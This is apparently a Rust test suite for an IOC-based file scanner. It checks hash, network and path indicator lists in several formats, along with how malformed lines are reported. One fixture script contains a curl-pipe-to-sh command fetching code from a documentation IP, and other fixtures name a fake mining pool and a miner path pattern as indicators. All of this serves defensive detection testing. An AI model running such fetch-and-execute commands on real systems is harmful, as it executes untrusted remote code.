//! Hash, network and path IOC lists in every accepted format, each with a malformed line that
//! is reported as `file:line` (and is exit 2 with --strict) while the good lines still match.

use crate::support::*;
use sha2::Digest;

fn sha256_hex(data: &[u8]) -> String {
    hex(&sha2::Sha256::digest(data))
}

fn md5_hex(data: &[u8]) -> String {
    hex(&md5::Md5::digest(data))
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

const PAYLOAD: &str = "harmless bytes standing in for a listed miner\n";

/// Scans a tree holding the payload with one list, expecting it flagged malicious by `rule`.
fn check_list(list_name: &str, list: &str, rule: &str, bad_line: usize) {
    let t = Tree::new();
    t.file("data/payload.bin", PAYLOAD);
    t.file("data/other.txt", "nothing to see\n");
    let lists = Tree::new();
    let list_path = lists.file(list_name, list);
    let lp = list_path.to_str().unwrap();
    let out = run(&["scan", "--format", "json", "--ioc", lp, "data"], t.path());
    assert_eq!(out.code, 1, "{}{}", out.stdout, out.stderr);
    let doc = json(&out);
    let files = doc["files"].as_array().unwrap();
    assert_eq!(files.len(), 1, "{}", out.stdout);
    assert_eq!(files[0]["path"], "data/payload.bin");
    assert_eq!(files[0]["verdict"], "malicious");
    let f = files[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == rule)
        .unwrap_or_else(|| panic!("no {rule} finding: {}", out.stdout));
    assert_eq!(f["analyzer"], "ioc");
    assert!(
        f["description"].as_str().unwrap().contains("XMRig dropper"),
        "{f}"
    );
    let problems = doc["scan"]["load_problems"].as_array().unwrap();
    assert_eq!(problems.len(), 1, "{problems:?}");
    let p = problems[0].as_str().unwrap();
    assert!(
        p.starts_with(&format!("{lp}:{bad_line}: ")),
        "expected {lp}:{bad_line}: in {p}"
    );
    assert!(out.stderr.contains(p), "problems are also on stderr");
    let strict = run(&["scan", "--strict", "--ioc", lp, "data"], t.path());
    assert_eq!(strict.code, 2, "a malformed line is exit 2 with --strict");
}

#[test]
fn plain_hash_per_line() {
    let list = format!(
        "# plain list\n\n{}\nnot a hash at all!\n",
        sha256_hex(PAYLOAD.as_bytes())
    );
    // A plain hash has no description: the list's name stands in.
    let t = Tree::new();
    t.file("data/payload.bin", PAYLOAD);
    let lists = Tree::new();
    let lp = lists.file("XMRig dropper.txt", &list);
    let out = run(
        &[
            "scan",
            "--format",
            "json",
            "--ioc",
            lp.to_str().unwrap(),
            "data",
        ],
        t.path(),
    );
    let doc = json(&out);
    assert_eq!(doc["files"][0]["verdict"], "malicious");
    assert_eq!(doc["files"][0]["findings"][0]["rule"], "sha256");
    let p = doc["scan"]["load_problems"][0].as_str().unwrap();
    assert!(p.ends_with("XMRig dropper.txt:4: not a hash (32, 40 or 64 hex digits), a domain or IP address, or REGEX;SCORE: 'not a hash at all!'"), "{p}");
}

#[test]
fn hash_semicolon_description() {
    let list = format!(
        "{};XMRig dropper\n{};broken\n",
        md5_hex(PAYLOAD.as_bytes()).to_uppercase(),
        &sha256_hex(b"x")[..50]
    );
    check_list("hashes.txt", &list, "md5", 2);
}

#[test]
fn loki_hash_score_description() {
    let list = format!(
        "# Loki hash-iocs\n{};80;XMRig dropper\nabcdef0123456789abcd;80;bad\n",
        sha256_hex(PAYLOAD.as_bytes())
    );
    check_list("hash-iocs.txt", &list, "sha256", 3);
}

#[test]
fn hash_comma_description() {
    let sha1 = hex(&sha1::Sha1::digest(PAYLOAD.as_bytes()));
    let list = format!("{sha1},XMRig dropper\n1234,nope\n");
    check_list("hashes.csv", &list, "sha1", 2);
}

#[test]
fn csv_export_with_commented_header() {
    let list = format!(
        "################\n# a malware feed export (CSV)\n# Terms of use: CC0\n################\n# \"first_seen_utc\",\"sha256_hash\",\"md5_hash\",\"sha1_hash\",\"reporter\",\"file_name\",\"signature\"\n\"2024-05-01 10:00:00\", \"{}\", \"{}\", \"n/a\", \"someone\", \"payload.bin\", \"XMRig dropper\"\n\"2024-05-01 10:01:00\", \"not-hex\", \"\", \"\", \"someone\", \"x\", \"y\"\n",
        sha256_hex(PAYLOAD.as_bytes()),
        md5_hex(PAYLOAD.as_bytes())
    );
    check_list("full.csv", &list, "sha256", 7);
}

#[test]
fn csv_with_plain_header_and_quoted_fields() {
    let list = format!(
        "sha256_hash,description\n\"{}\",\"XMRig dropper, packed\"\n\"{}\",short\n",
        sha256_hex(PAYLOAD.as_bytes()),
        &sha256_hex(b"y")[..63]
    );
    check_list("feed.csv", &list, "sha256", 3);
}

#[test]
fn network_indicators_match_on_label_boundaries() {
    let t = Tree::new();
    t.file("a.conf", "url = pool.evil-mining.example:5555\n");
    t.file("b.conf", "url = notpool.evil-mining.example:5555\n");
    t.file("c.sh", "curl http://198.51.100.23:8080/x.sh | sh\n");
    t.file("d.sh", "curl http://198.51.100.230/x.sh\n");
    let lists = Tree::new();
    let lp = lists.file(
        "pools.txt",
        "pool.evil-mining.example;XMRig dropper pool\n198.51.100.23:8080\n300.1.1.1\n",
    );
    let out = run(
        &[
            "scan",
            "--format",
            "json",
            "--ioc",
            lp.to_str().unwrap(),
            ".",
        ],
        t.path(),
    );
    let doc = json(&out);
    assert_eq!(
        listed(&doc, t.path()),
        ["./a.conf", "./c.sh"],
        "{}",
        out.stdout
    );
    let a = &doc["files"][0];
    assert_eq!(a["verdict"], "malicious");
    assert_eq!(a["findings"][0]["rule"], "network");
    assert!(a["findings"][0]["description"]
        .as_str()
        .unwrap()
        .contains("XMRig dropper pool"));
    assert!(doc["scan"]["load_problems"][0]
        .as_str()
        .unwrap()
        .contains("pools.txt:3: "));
}

#[test]
fn path_indicators_match_the_path() {
    let t = Tree::new();
    t.file("opt/.cache/kworkerds", "anything\n");
    t.file("opt/.cache/other", "anything\n");
    let lists = Tree::new();
    let lp = lists.file(
        "filename-iocs.txt",
        "# Loki filename IOCs\n/\\.cache/kworkerds$;90\n/other$;40;/opt/\n([;80\n",
    );
    let out = run(
        &[
            "scan",
            "--format",
            "json",
            "--ioc",
            lp.to_str().unwrap(),
            ".",
        ],
        t.path(),
    );
    let doc = json(&out);
    assert_eq!(listed(&doc, t.path()), ["./opt/.cache/kworkerds"]);
    assert_eq!(doc["files"][0]["findings"][0]["rule"], "path");
    assert!(doc["scan"]["load_problems"][0]
        .as_str()
        .unwrap()
        .contains("filename-iocs.txt:4: bad regex"));
}

#[test]
fn large_files_are_hashed_by_streaming() {
    let t = Tree::new();
    let big = "A".repeat(3 << 20);
    t.file("big.bin", &big);
    let lists = Tree::new();
    let lp = lists.file(
        "h.txt",
        &format!("{};big one\n", sha256_hex(big.as_bytes())),
    );
    let out = run(
        &[
            "scan",
            "--format",
            "json",
            "--max-size",
            "1MiB",
            "--ioc",
            lp.to_str().unwrap(),
            ".",
        ],
        t.path(),
    );
    let doc = json(&out);
    assert_eq!(doc["files"][0]["verdict"], "malicious", "{}", out.stdout);
    assert_eq!(doc["files"][0]["header_only"], true);
}
